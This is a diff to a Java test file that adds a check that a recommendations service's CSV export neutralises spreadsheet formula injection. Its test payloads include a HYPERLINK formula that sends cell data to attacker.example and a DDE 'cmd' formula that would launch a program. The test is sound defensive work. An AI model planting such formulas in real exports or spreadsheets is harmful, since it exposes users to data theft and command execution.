@@ -1,17 +1,19 @@
 package org.a4p.recommendations;
 
-import org.a4p.testing.Tokens;
 import io.quarkus.test.junit.QuarkusTest;
 import io.restassured.http.ContentType;
 import io.restassured.response.Response;
+import org.a4p.testing.Tokens;
 import org.junit.jupiter.api.Test;
 
 import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
 import java.util.Arrays;
 import java.util.HashMap;
+import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
+import java.util.UUID;
 
 import static io.restassured.RestAssured.given;
 import static org.assertj.core.api.Assertions.assertThat;
@@ -54,12 +56,47 @@ class CsvExportTest {
         for (int i = 0; i < api.size(); i++) {
             Map<String, Object> r = api.get(i);
             assertThat(rows.get(i + 1)).as("row of %s", r.get("number")).containsExactly(
-                    areaNames.get((String) r.get("area")), r.get("number").toString(), (String) r.get("text"),
-                    (String) r.get("stakeholderAction"), r.get("a4pParagraph").toString(), (String) r.get("context"),
+                    areaNames.get((String) r.get("area")), r.get("number").toString(), asText((String) r.get("text")),
+                    asText((String) r.get("stakeholderAction")), r.get("a4pParagraph").toString(), asText((String) r.get("context")),
                     (String) r.get("status"));
         }
         assertThat(rows).anySatisfy(row -> assertThat(row).containsSubsequence(tricky).contains("UNDER_CONSIDERATION"));
         assertThat(rows.get(5).get(3)).isEqualTo("Member States Think tanks/researchers,");
+    }
+
+    /**
+     * OWASP CSV Injection: a cell starting with =, +, -, @, TAB or CR would run as a formula in a spreadsheet.
+     * Each reaches the CSV with a leading single quote, inside quotes, whatever else the cell holds.
+     */
+    @Test
+    void cellsThatASpreadsheetWouldRunAsFormulasAreNeutralised() {
+        Map<String, Integer> created = new LinkedHashMap<>();
+        for (String start : List.of("=", "+", "-", "@", "\t", "\r")) {
+            String text = start + "HYPERLINK(\"https://attacker.example/?\"&A1,\"Click\") " + UUID.randomUUID();
+            Map<String, Object> body = ProblemsTest.with("text", text);
+            body.put("context", start + "cmd|' /C calc'!A0");
+            int number = given().contentType(ContentType.JSON).header("Authorization", Tokens.secretariat()).body(body)
+                    .when().post("/recommendations").then().statusCode(201).extract().path("number");
+            created.put(text, number);
+        }
+
+        byte[] bytes = given().when().get("/recommendations.csv").then().statusCode(200).extract().asByteArray();
+        String csv = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
+        List<List<String>> rows = Rfc4180.parse(csv);
+        created.forEach((text, number) -> {
+            List<String> row = rows.stream().filter(r -> r.get(1).equals(number.toString())).findFirst().orElseThrow();
+            assertThat(row.get(2)).as("text cell of %s", number).isEqualTo("'" + text);
+            assertThat(row.get(5)).as("context cell of %s", number).isEqualTo("'" + text.charAt(0) + "cmd|' /C calc'!A0");
+            assertThat(csv).as("the text cell of %s, quoted as written", number)
+                    .contains(",\"'" + text.replace("\"", "\"\"") + "\",");
+        });
+        // harmless cells stay as they were: a quote or a minus inside a cell is not a formula
+        assertThat(rows).anySatisfy(row -> assertThat(row.get(3)).isEqualTo("Member States Think tanks/researchers,"));
+    }
+
+    /** What a cell holds once neutralised (see the test above): the value, after a single quote when it could run. */
+    static String asText(String value) {
+        return !value.isEmpty() && "=+-@\t\r".indexOf(value.charAt(0)) >= 0 ? "'" + value : value;
     }
 
     /** A strict RFC 4180 reader: CRLF record ends, quoted fields with doubled quotes; anything else fails. */
